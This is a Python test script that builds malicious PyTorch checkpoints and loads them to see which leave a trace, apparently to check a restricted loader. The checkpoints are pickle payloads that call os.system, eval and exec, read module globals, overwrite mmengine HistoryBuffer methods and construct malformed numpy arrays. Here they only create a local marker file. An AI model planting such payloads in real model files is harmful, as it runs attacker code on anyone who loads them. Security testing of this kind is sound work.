"""Checkpoints that run code, write where they should not or forge memory when they are loaded.

``python malicious_checkpoints.py FOLDER`` loads them all with ``weights_only`` off and prints which
of them left a trace, to show that they are real.
"""

import builtins
import importlib
import json
import os
import sys
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer, history_buffer

RECONSTRUCT = np.zeros(1).__reduce__()[0]
SCALAR = np.float64(1).__reduce__()[0]
REBUILD = torch._tensor._rebuild_from_type_v2  # calls, then sets a state: a state given twice


class Call:
    """Pickled as a call of `function`, of whose result a state is then set."""

    def __init__(self, function, *args, state=None):
        self.reduced = (function, args) if state is None else (function, args, state)

    def __reduce__(self):
        return self.reduced

    def __call__(self):
        """Never called; pickle wants functions to be callable, and this may stand for one."""


class Text(str):
    """A text whose name a restricted getattr might compare and getattr then read otherwise."""


def one_number(value: float) -> tuple:
    return (1, (1,), np.dtype('f8'), False, np.float64(value).tobytes())


def history(**more) -> dict:
    numbers = dict(max_length=10, _log_history=np.ones(1), _count_history=np.ones(1, int))
    return {**numbers, **more}


def attacks(marker: Path) -> dict:
    """Name to content of a checkpoint; those that run code make the file `marker`."""
    code = f"open({str(marker)!r}, 'w').close()"
    module = Call(importlib.import_module, 'mmengine.logging.history_buffer')
    mean = Call(getattr, HistoryBuffer, 'mean')
    owned = {'statistics_methods': {'OWNED': torch.device}}
    into_module = {'_statistics_methods': Call(getattr, mean, '__globals__')}
    into_class = {'_statistics_methods': Call(getattr, HistoryBuffer, '_statistics_methods')}
    return {
        'runs a command': Call(os.system, f'touch {marker}'),
        'runs eval': Call(eval, code),
        'runs exec from a module': Call(Call(getattr, Call(__import__, 'builtins'), 'exec'), code),
        'reads a module': Call(getattr, module, '__dict__'),
        'reads the globals of a function': Call(getattr, mean, '__globals__'),
        'reads with a text of its own class': Call(getattr, HistoryBuffer, Text('__init__')),
        'reads what HistoryBuffer inherits': Call(getattr, HistoryBuffer, '__subclasses__'),
        'reads from an instance': Call(getattr, HistoryBuffer([1.0], [1]), 'mean'),
        'writes into a module': Call(
            REBUILD, HistoryBuffer, HistoryBuffer, (), into_module, state=owned
        ),
        'writes into a class': Call(
            REBUILD, HistoryBuffer, HistoryBuffer, (), into_class, state=owned
        ),
        'adds a statistic': Call(HistoryBuffer, state=history(**owned)),
        'replaces a statistic': Call(
            HistoryBuffer, state=history(statistics_methods={'mean': torch.device})
        ),
        'replaces a method': Call(HistoryBuffer, state=history(update=torch.device)),
        'passes objects as history': Call(HistoryBuffer, state=history(_log_history=[set()])),
        'sets a history twice': Call(
            REBUILD, HistoryBuffer, HistoryBuffer, (), history(), state=history()
        ),
        'holds an object array': np.array([set()], dtype=object),
        'makes objects of raw bytes': Call(np.ndarray, (1,), 'O', bytearray(8)),
        'makes an array over shared memory': Call(np.ndarray, (1,), 'f8', np.ones(1)),
        'makes a type of objects': Call(np.dtype, 'O'),
        'makes a type with fields': np.dtype([('a', 'O')]),
        'makes a scalar of an object type': Call(SCALAR, np.dtype('O'), {}),
        'makes a scalar of too few bytes': Call(SCALAR, np.dtype('f8'), b'\1'),
        'fills an array twice': Call(
            REBUILD,
            RECONSTRUCT,
            np.ndarray,
            (np.ndarray, (0,), b'b'),
            one_number(1),
            state=one_number(2),
        ),  # fmt: skip
        'builds an array of another class': Call(RECONSTRUCT, torch.Tensor, (0,), b'b'),
        'asks for many bytes': Call(bytes, 10**6),
    }


SCOPES = {
    'module': vars(history_buffer),
    'statistics': HistoryBuffer._statistics_methods,
    'builtins': vars(builtins),
}


def state_of_process() -> dict:
    """What an attack could have written into."""
    return {name: dict(scope) for name, scope in SCOPES.items()}


def main(folder: Path) -> None:
    HistoryBuffer()
    clean = state_of_process()
    traces = {}
    for name, content in attacks(folder / 'marker').items():
        torch.save(content, folder / 'checkpoint.pth')
        try:
            torch.load(folder / 'checkpoint.pth', weights_only=False)
        except (TypeError, ValueError) as error:
            traces[name] = str(error)
            continue
        now = state_of_process()
        traces[name] = [scope for scope in clean if clean[scope] != now[scope]]
        if (folder / 'marker').exists():
            (folder / 'marker').unlink()
            traces[name].append('code')
        for scope in traces[name]:
            if scope in SCOPES:
                SCOPES[scope].clear()
                SCOPES[scope].update(clean[scope])
    print(json.dumps(traces))


if __name__ == '__main__':
    main(Path(sys.argv[1]))
